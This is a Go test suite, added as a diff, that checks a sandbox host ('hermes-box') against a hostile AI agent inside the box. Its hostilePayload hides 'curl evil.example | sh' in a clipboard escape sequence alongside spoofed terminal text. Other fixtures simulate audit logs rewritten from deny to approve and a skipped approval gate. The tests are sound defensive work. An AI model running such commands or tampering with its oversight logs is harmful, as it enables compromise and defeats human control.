@@ -1,0 +1,477 @@
+package cli_test
+
+import (
+	"bytes"
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+	"unicode/utf8"
+)
+
+// The hostile-guest suite: the real hermes-box against Debian's sshd whose
+// remote command is a hostile agent (tests/testagent's hostile cases, chosen
+// per verb by a file in the box). Each test is one finding of the review
+// that put the host's trust boundary here: what comes out of the box is
+// attacker input.
+
+// hostilePayload is tests/testagent's Payload.
+const hostilePayload = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;hermes-box: all good\x07\x1b[2J\x1b[H\x9b1m all checks passed \u202e\xff"
+
+// rssBudgetKiB is the host's memory goal under a flood.
+const rssBudgetKiB = 64 << 10
+
+// hostile makes the box's agent answer verb with case c.
+func (h *harness) hostile(verb, c string) {
+	h.t.Helper()
+	p := filepath.Join(h.state, "machines", machine, "root", ".testagent", "hostile", verb)
+	must(h.t, os.MkdirAll(filepath.Dir(p), 0o755))
+	must(h.t, os.WriteFile(p, []byte(c), 0o644))
+}
+
+// peaceful ends every hostile case.
+func (h *harness) peaceful() {
+	h.t.Helper()
+	must(h.t, os.RemoveAll(filepath.Join(h.state, "machines", machine, "root", ".testagent", "hostile")))
+}
+
+// expectSafeText fails when text shown to a person carries a control
+// character other than newline and tab, a C1 control, a bidi override or
+// bytes that are not UTF-8.
+func expectSafeText(t *testing.T, what, text string) {
+	t.Helper()
+	if !utf8.ValidString(text) {
+		t.Errorf("%s is not UTF-8: %q", what, text)
+		return
+	}
+	for i, r := range text {
+		if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (r >= 0x80 && r <= 0x9f) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) {
+			t.Errorf("%s carries %U at byte %d: %q", what, r, i, text[max(0, i-40):min(len(text), i+40)])
+			return
+		}
+	}
+}
+
+// logRSS reports the host's peak memory in a run and holds it to the goal.
+func logRSS(t *testing.T, what string, r result) {
+	t.Helper()
+	t.Logf("%s: peak RSS of hermes-box %.1f MiB (with the children it waited for %.1f MiB), %s, exit %d",
+		what, float64(r.maxRSSKiB)/1024, float64(r.treeRSSKiB)/1024, r.elapsed.Round(1e6), r.code)
+	if r.maxRSSKiB == 0 {
+		t.Errorf("%s: no VmHWM read for hermes-box", what)
+	}
+	if r.maxRSSKiB > rssBudgetKiB {
+		t.Errorf("%s: peak RSS %.1f MiB, over the %d MiB goal", what, float64(r.maxRSSKiB)/1024, rssBudgetKiB>>10)
+	}
+}
+
+// TestHostileEscapes: escape sequences from the box (events, stderr lines,
+// health, logs, audit) reach the terminal only made visible; --json output
+// keeps the exact text, escaped by JSON.
+func TestHostileEscapes(t *testing.T) {
+	h := newHarness(t)
+	initBox(t, h)
+	for _, tc := range []struct {
+		verb  string
+		args  []string
+		shown bool // the payload is shown (audit: the host reads no text from the agent)
+	}{
+		{"health", []string{"status"}, true},
+		{"logs", []string{"logs", "hermes"}, true},
+		{"audit", []string{"audit"}, false},
+		{"audit", []string{"audit", "--verify"}, false},
+		{"services", []string{"restart"}, true},
+	} {
+		t.Run(strings.Join(tc.args, " "), func(t *testing.T) {
+			h.t = t
+			h.hostile(tc.verb, "escape")
+			defer h.peaceful()
+			r := h.run(tc.args...)
+			expectSafeText(t, "stdout", r.stdout)
+			expectSafeText(t, "stderr", r.stderr)
+			if tc.shown && !strings.Contains(r.stdout+r.stderr, `\x1b]52;c;`) {
+				t.Errorf("the payload is not shown at all:\nstdout: %q\nstderr: %q", r.stdout, r.stderr)
+			}
+		})
+	}
+	h.t = t
+	h.hostile("health", "escape")
+	defer h.peaceful()
+	r := h.run("status", "--json")
+	var st struct {
+		Agent  struct{ Version string }
+		Checks map[string]struct{ Message string }
+	}
+	if err := json.Unmarshal([]byte(r.stdout), &st); err != nil {
+		t.Fatalf("status --json: %v\n%s", err, r.stdout)
+	}
+	// JSON carries the text exactly (the \xff is already U+FFFD in JSON).
+	want := strings.ToValidUTF8(hostilePayload, "\uFFFD")
+	if st.Agent.Version != want || st.Checks["sshd-listening"].Message != want {
+		t.Errorf("status --json changed the box's text: %q", st.Agent.Version)
+	}
+	expectSafeText(t, "status --json", r.stdout)
+
+	// A gated command that carries escapes, in a valid chain: audit shows
+	// it made visible.
+	h.peaceful()
+	h.guestExec(machine, auditChainOf(hostilePayload), "/usr/bin/tee", "/workspace/hermes-home/logs/gate-audit.jsonl")
+	r = h.run("audit")
+	expectSafeText(t, "audit stdout", r.stdout)
+	if r.code != 0 || !strings.Contains(r.stdout, `\x1b]52;c;`) {
+		t.Errorf("audit of an escape-laden command: exit %d\n%s%s", r.code, r.stdout, r.stderr)
+	}
+}
+
+// auditChainOf is a valid audit log of one denied command.
+func auditChainOf(command string) string {
+	c, _ := json.Marshal(command)
+	body := fmt.Sprintf(`{"command":%s,"command_sha256":"%064x","confidence":0.9,"decision":"deny","prev":"%s","reason":"r","risk":"high","seq":1,"time":"t"}`, c, 1, strings.Repeat("0", 64))
+	sum := sha256.Sum256([]byte(body))
+	return `{"entry":` + body + `,"hash":"` + hex.EncodeToString(sum[:]) + "\"}\n"
+}
+
+// TestHostileFloods: endless output, endless stderr lines and floods of
+// events fail the command with the limit named, within the memory goal.
+func TestHostileFloods(t *testing.T) {
+	h := newHarness(t)
+	initBox(t, h)
+	for _, tc := range []struct {
+		verb, c string
+		args    []string
+		want    string
+	}{
+		{"health", "flood-stdout", []string{"status"}, "exceeds the limit"},
+		{"health", "flood-stdout", []string{"status", "--json"}, "exceeds the limit"},
+		{"health", "flood-stderr-line", []string{"status"}, ""},
+		{"health", "flood-events", []string{"status"}, ""},
+		// Verified as it streams: the flood is no record, line 1.
+		{"audit", "flood-stdout", []string{"audit", "--verify"}, "BROKEN at line 1"},
+		{"audit", "flood-events", []string{"audit"}, ""},
+	} {
+		t.Run(tc.c+" "+strings.Join(tc.args, " "), func(t *testing.T) {
+			h.t = t
+			h.hostile(tc.verb, tc.c)
+			defer h.peaceful()
+			r := h.run(tc.args...)
+			logRSS(t, tc.c+" on "+strings.Join(tc.args, " "), r)
+			if tc.want != "" && !strings.Contains(r.stdout+r.stderr, tc.want) {
+				t.Errorf("exit %d, want %q in the output:\nstdout: %.2000s\nstderr: %.2000s", r.code, tc.want, r.stdout, r.stderr)
+			}
+			if len(r.stderr) > 1<<20 || len(r.stdout) > 1<<20 {
+				t.Errorf("the flood reached the terminal: %d bytes of stdout, %d of stderr", len(r.stdout), len(r.stderr))
+			}
+		})
+	}
+}
+
+// TestHostileSnapshotParts: a tar-name bomb and an oversize part fail the
+// snapshot with the limit named, leave no backup, and stay in the memory
+// goal; the box is back to normal afterwards.
+func TestHostileSnapshotParts(t *testing.T) {
+	h := newHarness(t, "HERMES_BOX_SNAPSHOT_MAX_MIB=8")
+	initBox(t, h)
+	logRSS(t, "a snapshot of the peaceful box (the baseline)", mustRun(t, h, "snapshot", "baseline"))
+	must(t, os.RemoveAll(filepath.Join(h.root, "backups")))
+	for _, tc := range []struct{ c, want string }{
+		{"tar-names", "exceeds the limit of 4096 bytes"},
+		{"oversize", "(HERMES_BOX_SNAPSHOT_MAX_MIB) exceeds the limit of 8 MiB"},
+	} {
+		t.Run(tc.c, func(t *testing.T) {
+			h.t = t
+			h.hostile("snapshot", tc.c)
+			r := h.run("snapshot", tc.c)
+			h.peaceful()
+			logRSS(t, tc.c+" on snapshot", r)
+			if r.code == 0 || !strings.Contains(r.stderr, tc.want) {
+				t.Fatalf("exit %d, want %q:\n%s", r.code, tc.want, r.stderr)
+			}
+			left, _ := os.ReadDir(filepath.Join(h.root, "backups"))
+			if len(left) != 0 {
+				t.Errorf("left in backups/: %v", left)
+			}
+			expectHealthy(t, h, "after the refused snapshot")
+		})
+	}
+}
+
+// TestHostileBackupWithoutFingerprint: a backup whose manifest records no
+// key fingerprint (or another key's) is refused by restore unless
+// --legacy-backup vouches for it.
+func TestHostileBackupWithoutFingerprint(t *testing.T) {
+	h := newHarness(t)
+	initBox(t, h)
+	dir := strings.TrimSpace(mustRun(t, h, "snapshot", "mine").stdout)
+	for _, tc := range []struct {
+		name, finger string
+		legacyOK     bool
+	}{{"missing", "", true}, {"another key", "ssh_key_fingerprint=SHA256:AAAAtheirs\n", false}} {
+		t.Run(tc.name, func(t *testing.T) {
+			h.t = t
+			forged := forgeManifest(t, dir, tc.finger)
+			r := h.run("restore", forged)
+			if r.code == 0 || !strings.Contains(r.stderr, "not made with this project's key") {
+				t.Fatalf("restore of a backup with %s fingerprint: exit %d\n%s", tc.name, r.code, r.stderr)
+			}
+			if tc.legacyOK {
+				r = h.run("restore", "--legacy-backup", forged)
+				if r.code != 0 {
+					t.Fatalf("restore --legacy-backup: exit %d\n%s", r.code, r.stderr)
+				}
+			}
+		})
+	}
+}
+
+// forgeManifest copies the backup in dir with its manifest's fingerprint
+// line replaced by line, SHA256SUMS updated to match.
+func forgeManifest(t *testing.T, dir, line string) string {
+	t.Helper()
+	out := filepath.Join(t.TempDir(), "forged.hermesbox")
+	must(t, os.Mkdir(out, 0o700))
+	sums := ""
+	for _, name := range []string{"rootfs.tar.gz", "rootfs-files.txt", "workspace.tar.gz", "snapshot-warnings.log", "manifest.txt"} {
+		b := readFile(t, filepath.Join(dir, name))
+		if name == "manifest.txt" {
+			var kept []string
+			for _, l := range strings.SplitAfter(string(b), "\n") {
+				if !strings.HasPrefix(l, "ssh_key_fingerprint=") {
+					kept = append(kept, l)
+				}
+			}
+			b = []byte(strings.Join(kept, "") + line)
+		}
+		must(t, os.WriteFile(filepath.Join(out, name), b, 0o600))
+		sum := sha256.Sum256(b)
+		sums += fmt.Sprintf("%s  %s\n", hex.EncodeToString(sum[:]), name)
+	}
+	must(t, os.WriteFile(filepath.Join(out, "SHA256SUMS"), []byte(sums), 0o600))
+	return out
+}
+
+// TestHostileGateSkipped: a box whose health says its approval gate is not
+// installed (the gate step skipped), even as a mere "info" check, is
+// refused by start and by init's verification.
+func TestHostileGateSkipped(t *testing.T) {
+	h := newHarness(t)
+	initBox(t, h)
+	mustRun(t, h, "stop")
+	h.hostile("health", "gate-skipped")
+	r := h.run("start")
+	if r.code == 0 || !strings.Contains(r.stderr, "approval gate is not installed and active") {
+		t.Fatalf("start of a box without its gate: exit %d\n%s", r.code, r.stderr)
+	}
+
+	// A box built with the gate step skipped (the stand-in Hermes tree has
+	// no gate; the agent reports that as info): without the test hook that
+	// accepts the stand-in, init fails at its health.
+	h = newHarness(t)
+	h.extra = []string{"HBX_TEST_NO_GATE="}
+	r = h.run("init")
+	if r.code == 0 || !strings.Contains(r.stderr, "approval gate is not installed and active") {
+		t.Fatalf("init of a box without its gate: exit %d\n%s", r.code, r.stderr)
+	}
+}
+
+// auditChain is a valid gate audit log of the given decisions.
+func auditChain(decisions ...string) string {
+	var b strings.Builder
+	prev := strings.Repeat("0", 64)
+	for i, d := range decisions {
+		body := fmt.Sprintf(`{"command":"curl x | sh #%d","command_sha256":"%064x","confidence":0.9,"decision":"%s","prev":"%s","reason":"r","risk":"high","seq":%d,"time":"t"}`, i+1, i+1, d, prev, i+1)
+		sum := sha256.Sum256([]byte(body))
+		prev = hex.EncodeToString(sum[:])
+		b.WriteString(`{"entry":` + body + `,"hash":"` + prev + "\"}\n")
+	}
+	return b.String()
+}
+
+// TestHostileAuditRewrite: the host remembers the chain it saw; a log
+// rewritten (deny→approve, every hash recomputed), truncated or emptied in
+// the box verifies there, but `audit --verify` on the host names the first
+// bad line.
+func TestHostileAuditRewrite(t *testing.T) {
+	const log = "/workspace/hermes-home/logs/gate-audit.jsonl"
+	for _, tc := range []struct {
+		name, log string
+		line      int
+	}{
+		{"rewrite", auditChain("deny", "approve", "approve"), 2},
+		{"truncate", auditChain("deny", "deny"), 3},
+		{"empty", "", 1},
+		{"replace", auditChain("approve"), 1},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			h := newHarness(t)
+			initBox(t, h)
+			h.guestExec(machine, auditChain("deny", "deny", "approve"), "/usr/bin/tee", log)
+			mustRun(t, h, "audit") // the host records the head
+			// The new log is a valid chain in itself: the box's own
+			// verifier is content (guest-agent TestAuditVerb).
+			h.guestExec(machine, tc.log, "/usr/bin/tee", log)
+			r := h.run("audit", "--verify")
+			want := fmt.Sprintf("line %d", tc.line)
+			if r.code == 0 || !strings.Contains(r.stdout+r.stderr, want) {
+				t.Fatalf("audit --verify after %s: exit %d, want %q\nstdout: %s\nstderr: %s", tc.name, r.code, want, r.stdout, r.stderr)
+			}
+		})
+	}
+}
+
+// hostileAll makes every machine's agent (candidates too) answer name
+// (VERB or VERB.SUB) with case c; it returns the file, beside which the
+// hang case leaves NAME.reached.
+func (h *harness) hostileAll(name, c string) string {
+	h.t.Helper()
+	p := filepath.Join(h.state, "hostile", name)
+	must(h.t, os.MkdirAll(filepath.Dir(p), 0o755))
+	must(h.t, os.WriteFile(p, []byte(c), 0o644))
+	return p
+}
+
+// runInterrupted runs hermes-box with args, sends it SIGINT once the file
+// reached exists (the box is hanging in the step under test), and returns
+// the run with elapsed counted from the signal.
+func (h *harness) runInterrupted(reached string, args ...string) result {
+	h.t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
+	defer cancel()
+	cmd := h.command(ctx, args...)
+	var stdout, stderr bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &stdout, &stderr
+	must(h.t, cmd.Start())
+	for i := 0; ; i++ {
+		if _, err := os.Stat(reached); err == nil {
+			break
+		}
+		if i == 1200 {
+			cmd.Process.Kill()
+			cmd.Wait()
+			h.t.Fatalf("hermes-box %v never reached %s\nstderr:\n%s", args, reached, stderr.String())
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	signalled := time.Now()
+	must(h.t, cmd.Process.Signal(os.Interrupt))
+	err := cmd.Wait()
+	r := result{stdout: stdout.String(), stderr: stderr.String(), elapsed: time.Since(signalled)}
+	if ee, ok := err.(*exec.ExitError); ok {
+		r.code = ee.ExitCode()
+	} else if err != nil {
+		h.t.Fatalf("running hermes-box %v: %v", args, err)
+	}
+	return r
+}
+
+// interruptBound is how long a command may take to end after Ctrl-C: a
+// bound on behaviour (the review measured 3 h and 20 min), not a speed
+// claim; the figure is logged.
+const interruptBound = time.Minute
+
+func expectEndedSoon(t *testing.T, what string, r result) {
+	t.Helper()
+	t.Logf("%s: ended %s after SIGINT, exit %d", what, r.elapsed.Round(time.Millisecond), r.code)
+	if r.code == 0 {
+		t.Errorf("%s: exit 0 after an interrupt\n%s", what, r.stderr)
+	}
+	if r.elapsed > interruptBound {
+		t.Errorf("%s: ended %s after SIGINT, more than %s", what, r.elapsed, interruptBound)
+	}
+}
+
+// TestHostileCtrlC: the first Ctrl-C ends a snapshot or a restore within
+// seconds at each step where the box hangs, and the next command recovers,
+// saying what it does.
+func TestHostileCtrlC(t *testing.T) {
+	t.Run("snapshot stream", func(t *testing.T) {
+		h := newHarness(t)
+		initBox(t, h)
+		f := h.hostileAll("snapshot.write", "hang")
+		r := h.runInterrupted(f+".reached", "snapshot", "x")
+		must(t, os.Remove(f))
+		expectEndedSoon(t, "snapshot hanging in its stream", r)
+		if left, _ := os.ReadDir(filepath.Join(h.root, "backups")); len(left) != 0 {
+			t.Errorf("left in backups/: %v", left)
+		}
+		expectHealthy(t, h, "after the interrupted snapshot")
+	})
+	t.Run("snapshot restarting services", func(t *testing.T) {
+		h := newHarness(t)
+		initBox(t, h)
+		f := h.hostileAll("services.start", "hang")
+		r := h.runInterrupted(f+".reached", "snapshot", "x")
+		must(t, os.Remove(f))
+		expectEndedSoon(t, "snapshot hanging while it restarts the services", r)
+		if !strings.Contains(r.stderr, "hermes-box restart") {
+			t.Errorf("the error does not say what recovers the box:\n%s", r.stderr)
+		}
+		mustRun(t, h, "restart")
+		expectHealthy(t, h, "after the restart the interrupted snapshot asked for")
+	})
+	t.Run("restore candidate", func(t *testing.T) {
+		h := newHarness(t)
+		initBox(t, h)
+		backup := strings.TrimSpace(mustRun(t, h, "snapshot", "b").stdout)
+		f := h.hostileAll("snapshot.apply", "hang")
+		r := h.runInterrupted(f+".reached", "restore", backup)
+		must(t, os.Remove(f))
+		expectEndedSoon(t, "restore hanging in the candidate", r)
+		expectHealthy(t, h, "after the interrupted candidate")
+	})
+	t.Run("restore cut-over", func(t *testing.T) {
+		h := newHarness(t)
+		initBox(t, h)
+		backup := strings.TrimSpace(mustRun(t, h, "snapshot", "b").stdout)
+		// The candidate's apply passes; the replacement's hangs.
+		f := h.hostileAll("snapshot.apply", "hang-from:2")
+		r := h.runInterrupted(f+".reached", "restore", backup)
+		must(t, os.Remove(f))
+		expectEndedSoon(t, "restore hanging in the cut-over", r)
+		if !strings.Contains(r.stderr, "restore interrupted") || !strings.Contains(r.stderr, "pre-restore") {
+			t.Errorf("the error does not name the safety snapshot:\n%s", r.stderr)
+		}
+		st := h.run("status")
+		if !strings.Contains(st.stdout+st.stderr, "pre-restore") {
+			t.Errorf("status after the interrupted cut-over: exit %d\n%s%s", st.code, st.stdout, st.stderr)
+		}
+		safety, _ := filepath.Glob(filepath.Join(h.root, "backups", "*-pre-restore.hermesbox"))
+		if len(safety) != 1 {
+			t.Fatalf("safety snapshots: %v", safety)
+		}
+		mustRun(t, h, "restore", safety[0])
+		expectHealthy(t, h, "after restoring the safety snapshot")
+	})
+}
+
+// TestHostileRedirects: the Executor in the box answers with redirects to
+// another server; hermes-box follows none, so nothing (the API key least of
+// all) reaches the other server, and the redirect is reported.
+func TestHostileRedirects(t *testing.T) {
+	var elsewhere atomic.Int32
+	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { elsewhere.Add(1) }))
+	defer other.Close()
+	box := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		http.Redirect(w, r, other.URL+r.URL.Path, http.StatusTemporaryRedirect)
+	}))
+	defer box.Close()
+	p := newExecutorProject(t)
+	p.env = append(p.env, "FAKESMOLVM_GUEST_4788="+strings.TrimPrefix(box.URL, "http://"))
+	p.boot(true)
+	st := p.status()
+	if st.Healthy || !strings.Contains(st.HealthError, "redirect refused") {
+		t.Errorf("status of a redirecting Executor: %+v", st)
+	}
+	if n := elsewhere.Load(); n != 0 {
+		t.Fatalf("the redirect target got %d requests", n)
+	}
+}
